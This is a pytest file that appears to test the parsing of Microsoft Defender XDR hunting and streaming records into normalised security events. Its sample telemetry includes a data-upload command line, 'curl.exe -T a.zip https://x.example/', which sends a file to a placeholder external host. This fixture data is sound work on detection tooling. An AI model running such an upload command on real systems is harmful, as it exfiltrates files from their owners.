"""Defender XDR's tables, as rows of a query and streamed."""

import pytest

from .reading import Case, Json, check, events, one

TIME = "2026-03-12T09:14:02.123Z"
CURL = "C:\\Windows\\System32\\curl.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
COMMAND = "curl.exe -T a.zip https://x.example/"
STAMP = "2026-03-12T09:14:02.1234567Z"
EXACT = "2026-03-12T09:14:02.123456Z"

INITIATOR: Json = {
    "InitiatingProcessFileName": "cmd.exe",
    "InitiatingProcessFolderPath": CMD,
    "InitiatingProcessCommandLine": "cmd.exe /c up.cmd",
    "InitiatingProcessId": 560,
    "InitiatingProcessAccountDomain": "corp",
    "InitiatingProcessAccountName": "ann",
    "InitiatingProcessParentFileName": "explorer.exe",
}


def hunted(action: str, **columns: object) -> Json:
    """A row of advanced hunting, as Graph gives it."""
    return {
        "Timestamp": STAMP,
        "DeviceId": "7a" * 20,
        "DeviceName": "ws1.corp.example",
        "ActionType": action,
        "ReportId": 4711,
        **INITIATOR,
        **columns,
    }


def streamed(table: str, row: Json) -> Json:
    """The same as the streaming API sends it."""
    return {
        "time": "2026-03-12T09:14:30Z",
        "tenantId": "11111111-2222-3333-4444-555555555555",
        "operationName": "Publish",
        "category": f"AdvancedHunting-{table}",
        "_TimeReceivedBySvc": "2026-03-12T09:14:20Z",
        "properties": row,
    }


PROCESS = hunted(
    "ProcessCreated",
    FileName="curl.exe",
    FolderPath=CURL,
    ProcessCommandLine=COMMAND,
    ProcessId=5028,
    AccountDomain="corp",
    AccountName="ann",
    SHA256="ab" * 32,
    ProcessVersionInfoOriginalFileName="curl.exe",
)
OUT = {"LocalIP": "10.0.0.5", "LocalPort": 50123, "RemoteIP": "203.0.113.7", "RemotePort": 443, "Protocol": "Tcp"}
FILE = {"FileName": "a.zip", "FolderPath": "C:\\Users\\ann\\a.zip"}
CREATION: Json = {
    "Image": CURL,
    "CommandLine": COMMAND,
    "ParentImage": CMD,
    "ParentCommandLine": "cmd.exe /c up.cmd",
    "User": "corp\\ann",
    "ProcessId": 5028,
    "ParentProcessId": 560,
    "OriginalFileName": "curl.exe",
}
LINUX = {"InitiatingProcessFolderPath": "/usr/bin/bash", "InitiatingProcessFileName": "bash"}

TABLES: list[tuple[str, str, Json, str, str, Json]] = [
    ("a process", "DeviceProcessEvents", PROCESS, "process_creation", "windows", CREATION),
    (
        "a process, whose path is the folder",
        "DeviceProcessEvents",
        PROCESS | {"FolderPath": "C:\\Windows\\System32", "InitiatingProcessFolderPath": "c:\\windows\\system32"},
        "process_creation",
        "windows",
        {"Image": CURL, "ParentImage": "c:\\windows\\system32\\cmd.exe"},
    ),
    (
        "a process of Linux",
        "DeviceProcessEvents",
        PROCESS | LINUX | {"FolderPath": "/usr/bin/curl", "FileName": "curl"},
        "process_creation",
        "linux",
        {"Image": "/usr/bin/curl", "ParentImage": "/usr/bin/bash"},
    ),
    (
        "a connection",
        "DeviceNetworkEvents",
        hunted("ConnectionSuccess", **OUT, RemoteUrl="x.example"),
        "network_connection",
        "windows",
        {
            "Image": CMD,
            "DestinationIp": "203.0.113.7",
            "DestinationPort": 443,
            "DestinationHostname": "x.example",
            "SourceIp": "10.0.0.5",
            "Initiated": "true",
            "User": "corp\\ann",
        },
    ),
    (
        "an accepted connection",
        "DeviceNetworkEvents",
        hunted("InboundConnectionAccepted", **OUT),
        "network_connection",
        "windows",
        {"SourceIp": "203.0.113.7", "DestinationIp": "10.0.0.5", "DestinationPort": 50123, "Initiated": "false"},
    ),
    ("a failed connection", "DeviceNetworkEvents", hunted("ConnectionFailed", **OUT), "", "windows", {"Image": CMD}),
    (
        "a created file",
        "DeviceFileEvents",
        hunted("FileCreated", **FILE),
        "file_event",
        "windows",
        {"TargetFilename": "C:\\Users\\ann\\a.zip", "Image": CMD, "CommandLine": "cmd.exe /c up.cmd"},
    ),
    ("a changed file", "DeviceFileEvents", hunted("FileModified", **FILE), "file_change", "windows", {}),
    ("a deleted file", "DeviceFileEvents", hunted("FileDeleted", **FILE), "file_delete", "windows", {}),
    (
        "a renamed file",
        "DeviceFileEvents",
        hunted("FileRenamed", **FILE, PreviousFileName="a.docx", PreviousFolderPath="C:\\Users\\ann"),
        "file_rename",
        "windows",
        {"TargetFilename": "C:\\Users\\ann\\a.zip", "SourceFilename": "C:\\Users\\ann\\a.docx"},
    ),
    (
        "a name look-up",
        "DeviceEvents",
        hunted("DnsQueryResponse", AdditionalFields='{"DnsQueryString":"x.example"}'),
        "dns_query",
        "windows",
        {"QueryName": "x.example"},
    ),
]
DEFENDER = [
    Case(name, row, "defender", category, product, "ws1.corp.example", EXACT, fields)
    for name, _, row, category, product, fields in TABLES
]
STREAMED = [
    Case(
        name,
        streamed(table, row),
        "defender_streamed",
        category,
        product,
        "ws1.corp.example",
        EXACT,
        fields,
        ingest_time="2026-03-12T09:14:30Z",
    )
    for name, table, row, category, product, fields in TABLES
]
PROJECTED = [
    Case(
        "a process of a query that names its columns",
        {name: PROCESS[name] for name in ("Timestamp", "DeviceName", "FileName", "FolderPath", "ProcessCommandLine")},
        "defender",
        "process_creation",
        "windows",
        "ws1.corp.example",
        EXACT,
        {"Image": CURL, "CommandLine": COMMAND},
    ),
    Case(
        "a connection of one",
        {"Timestamp": STAMP, "DeviceName": "ws1.corp.example", "RemoteIP": "203.0.113.7", "RemotePort": 443},
        "defender",
        "network_connection",
        "windows",
        "ws1.corp.example",
        EXACT,
        {"DestinationIp": "203.0.113.7", "DestinationPort": 443},
    ),
]


@pytest.mark.parametrize("case", [*DEFENDER, *STREAMED, *PROJECTED], ids=lambda case: f"{case.shape}: {case.name}")
def test_a_record_becomes_its_event(case):
    check(case)


def test_the_answer_of_graph_is_unwrapped():
    answer = {"schema": [{"name": "Timestamp", "type": "DateTime"}], "results": [PROCESS, DEFENDER[3].record]}
    assert [event.category for event in events(answer)] == ["process_creation", "network_connection"]


def test_a_batch_of_the_event_hub_is_unwrapped():
    batch = {"records": [streamed("DeviceProcessEvents", PROCESS), streamed("DeviceFileEvents", DEFENDER[6].record)]}
    assert [event.category for event in events(batch)] == ["process_creation", "file_event"]


def test_two_tables_may_number_their_reports_alike():
    """ReportId repeats: with the device and the time it is unique only within one table."""
    assert one(PROCESS).id != one(DEFENDER[6].record).id
